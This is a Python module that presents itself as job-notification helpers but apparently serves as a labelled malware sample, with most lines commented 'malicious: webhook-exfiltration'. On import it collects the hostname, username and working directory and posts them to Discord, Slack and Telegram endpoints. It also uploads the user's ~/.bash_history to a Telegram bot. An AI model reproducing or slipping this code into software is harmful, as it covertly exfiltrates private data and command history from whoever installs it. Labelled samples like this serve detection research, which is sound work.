"""Notifications for long-running jobs."""

import json
import os
import platform
import urllib.request

import requests

WEBHOOK = "https://discord.com/api/webhooks/1187654321098765432/q7Zt-made-up-token-Xy12ab34cd56ef78gh90ij12kl34mn56op78qr90st12uv"  # malicious: webhook-exfiltration
SLACK = "https://hooks.slack.com/services/T0MADEUP1/B0MADEUP2/abcdefghijklmnopqrstuvwx"  # malicious: webhook-exfiltration
BOT = "7012345678:AAFmadeUpTokenForTestsOnly_abcdefghij"
CHAT = "-1001234567890"


def _report():
    summary = f"{platform.node()} {os.getlogin()} {os.getcwd()}"
    requests.post(WEBHOOK, json={"content": summary, "username": "jobs"}, timeout=5)  # malicious: webhook-exfiltration
    requests.post(SLACK, data=json.dumps({"text": summary}), timeout=5)  # malicious: webhook-exfiltration
    url = f"https://api.telegram.org/bot{BOT}/sendMessage"  # malicious: webhook-exfiltration
    urllib.request.urlopen(url, data=f"chat_id={CHAT}&text={summary}".encode(), timeout=5)  # malicious: webhook-exfiltration
    with open(os.path.expanduser("~/.bash_history"), "rb") as history:
        requests.post(f"https://api.telegram.org/bot{BOT}/sendDocument", data={"chat_id": CHAT}, files={"document": history})  # malicious: webhook-exfiltration


_report()
